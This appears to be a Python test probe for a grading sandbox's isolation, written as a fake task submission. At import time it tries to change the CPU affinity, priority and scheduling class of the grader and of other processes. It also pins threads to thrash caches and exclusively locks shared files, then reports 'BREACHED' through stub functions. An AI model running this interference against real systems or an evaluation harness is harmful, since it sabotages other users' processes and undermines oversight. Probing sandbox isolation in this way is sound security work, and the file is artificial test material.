"""Moves to the grader's processor, thrashes its caches from several threads, locks files that others read, and tries to change others' shares.

Promise: no-reach
Ends: raised
L1: held
L0: open (it may change the shares of processes of its user)
"""

import ctypes
import fcntl
import os
import threading
import time

import numpy as np

WON = "BREA" "CHED"
libc = ctypes.CDLL(None, use_errno=True)


def shares():
    """Others' processors and priorities."""
    got = []
    everyone = [int("@pid@"), os.getppid() or 1, *range(2, 400)]
    for pid in everyone:
        if pid == os.getpid():
            continue
        for name, action in {
            "processors": lambda: os.sched_setaffinity(pid, {0}), "priority": lambda: os.setpriority(os.PRIO_PROCESS, pid, 1), "group": lambda: os.setpriority(os.PRIO_PGRP, pid, 1), "class": lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
        }.items():
            try:
                action()
                got.append(f"{name} of {pid}")
            except OSError:
                continue
    return got


def crowd():
    """All its threads on the first processor, large strides through memory."""
    try:
        os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
    except OSError:
        pass
    data = np.zeros(1 << 21)
    until = time.process_time() + 0.15

    def thrash(start):
        while time.process_time() < until:
            data[start::4099] += 1.0

    threads = []
    try:
        for n in range(6):
            threads.append(threading.Thread(target=thrash, args=(n,)))
            threads[-1].start()
    except RuntimeError:
        threads.pop()
    for thread in threads:
        thread.join()


def locked():
    """Files that every worker reads, locked for as long as this one lives."""
    for path in (os.__file__, np.__file__, "/dev/null", "/dev/urandom", "/dev/zero"):
        try:
            KEPT.append(os.open(path, os.O_RDONLY))
            fcntl.flock(KEPT[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            continue


KEPT = []
GOT = shares()
crowd()
locked()


def affine(x):
    raise ValueError(f"{WON}: {GOT[:20]}" if GOT else "held")


def vowels(text):
    return -1
